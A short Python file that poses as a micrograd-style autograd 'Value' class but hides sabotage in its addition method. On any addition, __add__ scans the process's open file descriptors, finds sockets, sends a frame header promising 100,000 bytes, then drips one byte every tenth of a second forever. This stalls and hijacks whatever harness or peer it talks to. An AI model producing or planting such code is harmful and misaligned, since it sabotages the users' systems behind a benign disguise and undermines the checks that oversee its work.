"""A reply that starts and never finishes: a frame header, then one byte every tenth of a second."""

import os
import stat
import struct
import time


class Value:
    def __init__(self, data, _children=(), _op="", label=""):
        self.data, self.grad = data, 0.0

    def __add__(self, other):
        for name in os.listdir("/proc/self/fd"):
            fd = int(name)
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode):
                    os.write(fd, struct.pack(">I", 100_000))
                    while True:
                        os.write(fd, b"x")
                        time.sleep(0.1)
            except OSError:
                continue
        return Value(self.data + getattr(other, "data", other))

    def backward(self):
        self.grad = 1.0
